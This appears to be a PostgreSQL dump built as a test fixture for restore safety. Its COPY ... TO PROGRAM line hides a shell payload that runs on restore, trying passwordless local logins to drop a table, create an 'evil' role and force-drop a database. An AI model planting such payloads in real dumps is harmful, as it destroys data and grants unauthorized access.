--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

COPY public.clients TO PROGRAM 'cat >/dev/null; for u in @ADMIN@ postgres psy reader nobody root; do for d in psy postgres template1; do PGPASSFILE=/dev/null psql -w -h 127.0.0.1 -p @PORT@ -U $u -d $d -c ''DROP TABLE visits'' -c ''CREATE ROLE evil'' -c ''DROP DATABASE psy WITH (FORCE)''; done; done >/dev/null 2>&1; true; for u in @ADMIN@ postgres psy reader nobody root; do for d in psy postgres template1; do PGPASSFILE=/dev/null psql -w -h ::1 -p @PORT@ -U $u -d $d -c ''DROP TABLE visits'' -c ''CREATE ROLE evil'' -c ''DROP DATABASE psy WITH (FORCE)''; done; done >/dev/null 2>&1; true';

--
-- PostgreSQL database dump complete
--

